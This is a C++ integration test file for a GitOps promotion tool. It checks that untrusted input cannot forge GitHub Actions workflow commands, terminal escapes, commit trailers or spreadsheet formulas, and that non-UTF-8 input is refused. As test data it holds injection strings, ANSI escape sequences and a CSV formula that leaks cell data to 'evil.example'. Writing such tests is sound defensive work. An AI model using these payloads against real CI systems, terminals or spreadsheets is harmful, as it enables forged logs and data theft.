// Text written by others cannot forge what promote prints (issue 15, item 3), and text given
// to promote must be UTF-8 (issue 15, item 6). The real binary, run as GitHub Actions runs it,
// against real repositories: a gate program whose summary holds workflow commands, a line
// break that draws a fake gate line and terminal escapes; a Trivy report whose field holds
// the same; an actor with an ANSI escape read back by `history`, `history show` and
// `explain`. And a reason, an actor or PROMOTE_ACTOR that is not UTF-8, refused with nothing
// written; an approval read back from the notes by `history sync` the same to the byte.

#include <doctest/doctest.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/support.hpp"

namespace {

namespace fs = std::filesystem;
using promote::test::CommandResult;
using promote::test::contains;
using promote::test::read_text;
using promote::test::sh;
using promote::test::write_text;

const fs::path k_examples = fs::path(PROMOTE_SOURCE_DIR) / "examples";

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    lines.push_back(line);
  }
  return lines;
}

// Every line the GitHub runner would take as a workflow command: "::" after the blanks it
// trims, or "##[" anywhere. A line break for the runner is LF, CR or CRLF.
std::vector<std::string> workflow_commands(const std::string& text) {
  std::string split = text;
  for (char& c : split) {
    c = c == '\r' ? '\n' : c;
  }
  std::vector<std::string> commands;
  for (const auto& line : lines_of(split)) {
    const auto start = line.find_first_not_of(" \t");
    if ((start != std::string::npos && line.compare(start, 2, "::") == 0) ||
        contains(line, "##[")) {
      commands.push_back(line);
    }
  }
  return commands;
}

// Whether a workflow command is one promote writes: an annotation of its own, or a mask.
bool promotes_own(const std::string& command) {
  for (const char* prefix : {"::error title=promote ", "::warning title=promote ",
                             "::notice title=promote ", "::add-mask::"}) {
    if (command.starts_with(prefix)) {
      return true;
    }
  }
  return false;
}

// The names in a $GITHUB_OUTPUT file, as the runner reads it: NAME=VALUE lines and
// NAME<<DELIMITER blocks.
std::vector<std::string> output_names(const std::string& text) {
  std::vector<std::string> names;
  const auto lines = lines_of(text);
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const auto heredoc = lines[i].find("<<");
    const auto equals = lines[i].find('=');
    if (heredoc != std::string::npos && (equals == std::string::npos || heredoc < equals)) {
      names.push_back(lines[i].substr(0, heredoc));
      const std::string delimiter = lines[i].substr(heredoc + 2);
      while (i + 1 < lines.size() && lines[i + 1] != delimiter) {
        ++i;
      }
      ++i;
    } else {
      names.push_back(lines[i].substr(0, equals));
    }
  }
  return names;
}

const std::vector<std::string> k_output_names = {"outcome", "stage",  "candidate",   "candidate-id",
                                                 "commit",  "pr-url", "promotion-id"};

// A GitOps repository with a bare remote, and the real binary run in it with an environment
// of the test's choosing (every CI variable unset unless given).
struct Repo {
  promote::test::TempDir dir;
  fs::path repo = dir / "deploy";
  fs::path summary = dir / "step-summary.md";
  fs::path outputs = dir / "step-outputs";

  // `files` written (path -> text), `plugins` as plugins/promote-gate-NAME.
  Repo(const std::map<std::string, std::string>& files,
       const std::map<std::string, std::string>& plugins = {}) {
    for (const auto& [path, text] : files) {
      fs::create_directories((repo / path).parent_path());
      write_text(repo / path, text);
    }
    for (const auto& [name, text] : plugins) {
      const fs::path program = repo / "plugins" / ("promote-gate-" + name);
      fs::create_directories(program.parent_path());
      write_text(program, text);
      fs::permissions(program, fs::perms::owner_all | fs::perms::group_read |
                                   fs::perms::group_exec | fs::perms::others_read |
                                   fs::perms::others_exec);
    }
    commit();
  }

  // The demo repository of examples/, its Trivy report replaced by `trivy`.
  explicit Repo(const std::string& trivy) {
    sh("mkdir deploy && cp -r '" + (k_examples / "k8s").string() + "' '" +
           (k_examples / "reports").string() + "' '" + (k_examples / "promote.yaml").string() +
           "' deploy/",
       dir.path());
    write_text(repo / "reports/trivy/api.json", trivy);
    commit();
  }

  void commit() {
    write_text(repo / ".gitignore", ".promote/\n");
    sh("git init -q --bare -b main remote.git && cd deploy && git init -q -b main && "
       "git config user.name 'Deploy CI' && git config user.email ci@deploy.example && "
       "git add -A && git commit -q -m init && git remote add origin ../remote.git && "
       "git push -q -u origin main",
       dir.path());
  }

  CommandResult promote(std::vector<std::string> args,
                        const std::map<std::string, std::string>& more = {}) const {
    args.insert(args.begin(), promote::test::promote_binary().string());
    std::map<std::string, std::string> env;
    for (const char* name :
         {"GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GITHUB_ACTOR",
          "GITHUB_SERVER_URL", "GITHUB_REPOSITORY", "GITHUB_RUN_ID", "GITLAB_CI",
          "GITLAB_USER_LOGIN", "CI_JOB_URL", "PROMOTE_HISTORY", "PROMOTE_GIT_TOKEN",
          "PROMOTE_FORGE_TOKEN", "GITHUB_TOKEN", "GITLAB_TOKEN", "CI_JOB_TOKEN", "GITEA_TOKEN"}) {
      env[name] = "";
    }
    env["PROMOTE_ACTOR"] = "deploy-ci";
    env["NO_COLOR"] = "1";
    for (const auto& [name, value] : more) {
      env[name] = value;
    }
    return promote::test::run(args, repo, env);
  }

  // GitHub Actions' variables, with this repository's summary and outputs files.
  std::map<std::string, std::string> github() const {
    return {{"GITHUB_ACTIONS", "true"},
            {"GITHUB_STEP_SUMMARY", summary.string()},
            {"GITHUB_OUTPUT", outputs.string()},
            {"GITHUB_ACTOR", "octocat"},
            {"GITHUB_SERVER_URL", "https://github.example"},
            {"GITHUB_REPOSITORY", "acme/deploy"},
            {"GITHUB_RUN_ID", "4242"}};
  }

  std::string remote_refs() const {
    return sh("git --git-dir=remote.git for-each-ref", dir.path());
  }
};

const std::string k_overlay =
    "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nimages:\n"
    "  - name: ghcr.io/acme/api\n    newTag: 1.0.0\n";

// One stage, prod, with these gates (YAML list items, six spaces in).
std::string pipeline_with(const std::string& gates) {
  return "apiVersion: promote/v1\nkind: Pipeline\nmetadata: { name: forged }\n"
         "repository: { url: ., branch: main }\n"
         "images:\n  - name: api\n    repository: ghcr.io/acme/api\n"
         "stages:\n  - name: prod\n    target:\n      kustomize: k8s/prod\n"
         "    fail_fast: false\n    gates:\n" +
         gates;
}

// A gate program that answers `status` with `summary` (a JSON string literal).
std::string plugin(const std::string& status, const std::string& summary) {
  return "#!/bin/sh\ncat >/dev/null\nprintf '%s\\n' '{\"status\":\"" + status +
         "\",\"summary\":" + summary + "}'\n";
}

// Everything promote printed and wrote for CI that a person or the runner reads.
void check_nothing_forged(const Repo& repo, const CommandResult& result) {
  for (const auto& command : workflow_commands(result.out + "\n" + result.err)) {
    INFO("workflow command: " << command);
    CHECK(promotes_own(command));
  }
  for (const std::string* text : {&result.out, &result.err}) {
    CHECK_FALSE(contains(*text, "\x1b"));
  }
  const std::string summary = read_text(repo.summary);
  CHECK_FALSE(contains(summary, "\x1b"));
  CHECK(workflow_commands(summary).empty());
  CHECK(output_names(read_text(repo.outputs)) == k_output_names);
}

}  // namespace

TEST_SUITE("integration") {
  TEST_CASE("forged output: a gate's summary forges no workflow command, gate line or escape") {
    const std::string commands =
        R"("checked\n::set-output name=x::y\n  ::stop-commands::abc\n##[set-output name=z;]w")";
    const std::string line = R"("1 failure\r\n  junit  pass    all 10 tests passed\u001b[2J")";
    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline_with("      - use: commands\n      - use: line\n")}},
              {{"commands", plugin("fail", commands)}, {"line", plugin("warn", line)}});
    const std::vector<std::string> args = {"--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0"};
    const CommandResult result = repo.promote(args, repo.github());
    INFO("stdout: " << result.out << "\nstderr: " << result.err);
    CHECK(result.exit_code == 1);
    check_nothing_forged(repo, result);

    // The summaries, each on its own gate's line, every control character shown.
    CHECK(contains(result.out,
                   "\n  commands  fail    checked\\x0a::set-output name=x::y\\x0a  "
                   "::stop-commands::abc\\x0a##\\x5bset-output name=z;]w\n"));
    CHECK(contains(result.out,
                   "\n  line      warn    1 failure\\x0d\\x0a  junit  pass    all 10 tests "
                   "passed\\x1b[2J\n"));
    for (const auto& printed : lines_of(result.out)) {
      CHECK_FALSE(printed.starts_with("  junit"));
    }
    // The annotations, one line each.
    const auto annotations = lines_of(result.err);
    CHECK(std::find(annotations.begin(), annotations.end(),
                    "::error title=promote prod%3A gate commands fail::checked\\x0a::set-output "
                    "name=x::y\\x0a  ::stop-commands::abc\\x0a##\\x5bset-output name=z;]w") !=
          annotations.end());
    // The step summary: the summaries as code spans in their cells.
    CHECK(contains(read_text(repo.summary),
                   "| `line` | `line` | ⚠️ warn | `1 failure\\x0d\\x0a  junit  pass    all 10 "
                   "tests passed\\x1b[2J` |\n"));

    SUBCASE("the JSON document and the history keep the summaries exact") {
      const CommandResult json = repo.promote(
          {"--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0", "--output", "json"});
      const auto doc = nlohmann::json::parse(json.out);
      CHECK(doc["gates"][0]["summary"] ==
            "checked\n::set-output name=x::y\n  ::stop-commands::abc\n##[set-output name=z;]w");
      CHECK(doc["gates"][1]["summary"] ==
            "1 failure\r\n  junit  pass    all 10 tests passed\x1b[2J");
      const auto history = nlohmann::json::parse(repo.promote({"history", "--output", "json"}).out);
      CHECK(history[0]["gates"][1]["summary"] == doc["gates"][1]["summary"]);
    }
  }

  TEST_CASE("forged output: a Trivy report's field forges no workflow command or escape") {
    std::string trivy = read_text(k_examples / "reports/trivy/api.json");
    const std::string field = "\"Severity\": \"LOW\",";
    const auto at = trivy.find(field);
    REQUIRE(at != std::string::npos);
    trivy.replace(at, field.size(),
                  R"("Severity": "LOW\n::set-output name=t::v\u001b]0;owned\u0007\u001b[2J",)");
    Repo repo(trivy);
    const CommandResult result = repo.promote({"--to", "staging"}, repo.github());
    INFO("stdout: " << result.out << "\nstderr: " << result.err);
    CHECK(result.exit_code == 4);
    check_nothing_forged(repo, result);
    CHECK(contains(result.out, "got \"LOW\\x0a::set-output name=t::v\\x1b]0;owned\\x07\\x1b[2J\""));
    CHECK(contains(result.err, "::error title=promote staging%3A gate trivy error::"));
  }

  TEST_CASE("forged output: an actor's escape sequence is shown, never run, by history") {
    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline_with("      - use: ok\n")}},
              {{"ok", plugin("pass", "\"fine\"")}});
    const std::string actor = "\x1b[2K\rmallory\x1b[8m";
    const CommandResult promoted =
        repo.promote({"--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0", "--actor", actor,
                      "--reason", "fix\n::warning::forged"});
    INFO(promoted.out << promoted.err);
    REQUIRE(promoted.exit_code == 0);
    const auto history = nlohmann::json::parse(repo.promote({"history", "--output", "json"}).out);
    REQUIRE(history.size() == 1);
    CHECK(history[0]["actor"] == actor);  // recorded as given
    const std::string id = history[0]["id"];
    const std::string shown = "\\x1b[2K\\x0dmallory\\x1b[8m";
    for (const std::vector<std::string>& args : {std::vector<std::string>{"history"},
                                                 {"history", "--output", "csv"},
                                                 {"history", "show", id},
                                                 {"explain", id}}) {
      const CommandResult result = repo.promote(args);
      INFO(args[0] << " " << (args.size() > 1 ? args[1] : "") << ": " << result.out);
      CHECK(result.exit_code == 0);
      CHECK_FALSE(contains(result.out + result.err, "\x1b"));
      CHECK(contains(result.out, shown));
      CHECK(workflow_commands(result.out).empty());
    }
    const std::string show = repo.promote({"history", "show", id}).out;
    CHECK(contains(show, "\n  actor      " + shown + "\n"));
    CHECK(contains(show, "\n  reason     fix\\x0a::warning::forged\n"));
  }

  TEST_CASE("forged output: a field of history --output csv is never a spreadsheet formula") {
    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline_with("      - use: ok\n")}},
              {{"ok", plugin("pass", "\"fine\"")}});
    const std::string actor = "=HYPERLINK(\"https://evil.example/?\"&A1,\"ok\")";
    REQUIRE(
        repo.promote({"--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0", "--actor", actor})
            .exit_code == 0);
    const CommandResult csv = repo.promote({"history", "--output", "csv"});
    INFO(csv.out);
    CHECK(contains(csv.out, ",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"ok\"\")\","));
    CHECK_FALSE(contains(csv.out, ",="));
    CHECK_FALSE(contains(csv.out, ",\"="));
  }

  TEST_CASE("forged output: a bad argument is quoted shown, not sent") {
    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline_with("      - use: ok\n")}},
              {{"ok", plugin("pass", "\"fine\"")}});
    const CommandResult value = repo.promote({"--to", "prod", "--output", "\x1b[31mjson"});
    CHECK(value.exit_code == 2);
    CHECK(value.err ==
          "--output: \\x1b[31mjson not in {text,json}\nRun with --help for more information.\n");
    const CommandResult argument =
        repo.promote({"--to", "prod", "\n::set-output name=x::y"}, repo.github());
    CHECK(argument.exit_code == 2);
    CHECK(argument.err == "The following argument was not expected: \n\\x3a:set-output "
                          "name=x::y\nRun with --help for more information.\n");
  }

  TEST_CASE("forged output: a pipeline file whose path holds a line feed forges no trailer") {
    // The path relative to the repository's root is the Promote-Pipeline-File trailer: a line
    // feed in it wrote a Promote-Stage trailer of the directory's choosing into the commit.
    const std::string forged = "deploy\nPromote-Stage: prod";
    Repo repo({{forged + "/promote.yaml", pipeline_with("      - use: ok\n")},
               {forged + "/k8s/prod/kustomization.yaml", k_overlay}},
              {{"ok", plugin("pass", "\"fine\"")}});
    const std::string refs = repo.remote_refs();
    const CommandResult result = repo.promote(
        {"-f", forged + "/promote.yaml", "--to", "prod", "--image", "api=ghcr.io/acme/api:1.1.0"},
        {{"PATH", (repo.repo / "plugins").string() + ":" + std::getenv("PATH")}});
    INFO(result.out << result.err);
    CHECK(result.exit_code == 2);
    CHECK(contains(result.err,
                   "deploy\\x0aPromote-Stage: prod/promote.yaml: the path of the "
                   "pipeline file holds a control character, which promote would "
                   "write into commit trailers and records\n"));
    CHECK(repo.remote_refs() == refs);
    CHECK_FALSE(fs::exists(repo.repo / forged / ".promote"));
  }

  TEST_CASE("utf-8: a reason, an actor or PROMOTE_ACTOR that is not UTF-8 is refused") {
    Repo repo({{"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline_with("      - use: ok\n")}},
              {{"ok", plugin("pass", "\"fine\"")}});
    const std::string refs = repo.remote_refs();
    const std::vector<std::string> promote = {"--to", "prod", "--image",
                                              "api=ghcr.io/acme/api:1.1.0"};
    const auto with = [&](std::vector<std::string> more) {
      std::vector<std::string> args = promote;
      args.insert(args.end(), more.begin(), more.end());
      return args;
    };
    struct Case {
      std::vector<std::string> args;
      std::map<std::string, std::string> env;
      std::string message;
    };
    const std::vector<Case> cases = {
        {with({"--reason", "x\xfe"}),
         {},
         "promote: --reason is not valid UTF-8 (byte 0xfe at offset 1): give it as UTF-8 text\n"},
        {with({"--actor", std::string("bo\xff") + "b"}),
         {},
         "promote: --actor is not valid UTF-8 (byte 0xff at offset 2): give it as UTF-8 text\n"},
        {with({}),
         {{"PROMOTE_ACTOR", "bob\xc3"}},
         "promote: PROMOTE_ACTOR is not valid UTF-8 (byte 0xc3 at offset 3): give it as UTF-8 "
         "text\n"},
        {with({}),
         {{"PROMOTE_ACTOR", ""}, {"GITHUB_ACTOR", "\xed\xa0\x80"}},
         "promote: GITHUB_ACTOR is not valid UTF-8 (byte 0xed at offset 0): give it as UTF-8 "
         "text\n"},
        {with({}),
         {{"GITHUB_ACTIONS", "true"}, {"GITHUB_REPOSITORY", "acme/\xff"}},
         "promote: GITHUB_REPOSITORY is not valid UTF-8 (byte 0xff at offset 5): give it as UTF-8 "
         "text\n"},
        {{"--to", "prod", "--image", "api=ghcr.io/acme/api:1\xff"},
         {},
         "promote: --image api: invalid image reference 'ghcr.io/acme/api:1\\xff': tag "
         "'1\\xff' is invalid (it must start with a letter, digit or '_' and contain only "
         "letters, digits, '_', '.' and '-')\n"},
        {{"approve", "--stage", "prod", "--candidate", std::string(64, 'a')},
         {{"PROMOTE_ACTOR", "bob\xff"}},
         "promote: PROMOTE_ACTOR is not valid UTF-8 (byte 0xff at offset 3): give it as UTF-8 "
         "text\n"},
        {{"hold", "--stage", "prod", "--reason", "INC-1 \xc0\xaf"},
         {},
         "promote: --reason is not valid UTF-8 (byte 0xc0 at offset 6): give it as UTF-8 text\n"},
    };
    for (const auto& each : cases) {
      const CommandResult result = repo.promote(each.args, each.env);
      INFO(each.message);
      CHECK(result.exit_code == 2);
      CHECK(result.out == "");
      CHECK(result.err == each.message);
    }
    // Nothing written: no history, no commit, no note.
    CHECK_FALSE(fs::exists(repo.repo / ".promote"));
    CHECK(repo.remote_refs() == refs);

    SUBCASE("with --output json, the error document") {
      const CommandResult result = repo.promote(with({"--reason", "\xff", "--output", "json"}));
      CHECK(result.exit_code == 2);
      const auto doc = nlohmann::json::parse(result.out);
      CHECK(doc["error"]["kind"] == "usage");
      CHECK(doc["error"]["message"] ==
            "--reason is not valid UTF-8 (byte 0xff at offset 0): give it as UTF-8 text");
    }
    SUBCASE("reading commands do not mind the environment") {
      const CommandResult result = repo.promote({"status"}, {{"PROMOTE_ACTOR", "bob\xff"}});
      CHECK(result.exit_code == 0);
    }
  }

  TEST_CASE("utf-8: one person's approval counts once, before and after history sync") {
    const std::string pipeline =
        "apiVersion: promote/v1\nkind: Pipeline\nmetadata: { name: gated }\n"
        "repository: { url: ., branch: main }\n"
        "images:\n  - name: api\n    repository: ghcr.io/acme/api\n"
        "stages:\n  - name: dev\n    target:\n      kustomize: k8s/dev\n"
        "  - name: prod\n    from: dev\n    target:\n      kustomize: k8s/prod\n"
        "    gates:\n      - use: approval\n        with: { min: 2 }\n";
    Repo repo({{"k8s/dev/kustomization.yaml", k_overlay},
               {"k8s/prod/kustomization.yaml", k_overlay},
               {"promote.yaml", pipeline}});
    REQUIRE(repo.promote({"--to", "dev", "--image", "api=ghcr.io/acme/api:1.1.0", "--reason",
                          "première ✓"})
                .exit_code == 0);
    REQUIRE(repo.promote({"hold", "--stage", "prod", "--reason", "gel ❄ (INC-7)"}).exit_code == 0);
    REQUIRE(repo.promote({"release", "--stage", "prod", "--reason", "dégel"}).exit_code == 0);

    // The same person twice: as bytes that are not UTF-8 (refused), and as a name with
    // non-ASCII letters, which the note carries and sync reads back to the byte.
    CHECK(repo.promote({"approve", "--stage", "prod"}, {{"PROMOTE_ACTOR",
                                                         "b\xf8"
                                                         "b"}})
              .exit_code == 2);
    const CommandResult approved = repo.promote(
        {"approve", "--stage", "prod", "--reason", "canary ok ✓"}, {{"PROMOTE_ACTOR", "bøb"}});
    INFO(approved.out << approved.err);
    REQUIRE(approved.exit_code == 0);
    for (int round = 0; round < 2; ++round) {
      const CommandResult synced = repo.promote({"history", "sync"});
      INFO(synced.out << synced.err);
      CHECK(synced.exit_code == 0);
      CHECK(contains(synced.out, "added 0 promotions, 0 approvals, 0 holds or releases"));
    }
    const CommandResult plan = repo.promote({"plan", "--to", "prod", "--output", "json"});
    INFO(plan.out << plan.err);
    CHECK(plan.exit_code == 3);
    const auto doc = nlohmann::json::parse(plan.out);
    CHECK(doc["gates"][0]["status"] == "pending");
    CHECK(doc["gates"][0]["details"]["approvals"].size() == 1);
    CHECK(doc["gates"][0]["details"]["approvals"][0]["actor"] == "bøb");
    CHECK(doc["gates"][0]["details"]["approvals"][0]["reason"] == "canary ok ✓");
  }
}
